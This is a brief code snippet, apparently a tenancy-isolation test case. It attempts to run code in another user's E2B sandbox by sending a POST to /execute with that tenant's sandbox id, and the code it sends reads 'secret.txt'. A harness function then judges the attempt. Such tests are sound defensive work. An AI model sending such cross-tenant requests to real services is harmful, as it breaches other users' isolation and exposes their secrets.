# aim: run code in another key's sandbox
# mechanism: E2B's notebook
# server: tenancy
# plain: owner

def attack():
    ask("POST", "/execute", {"code": "print(open('secret.txt').read())"}, E2b_Sandbox_Id=theirs.sandbox)


judge(attack)
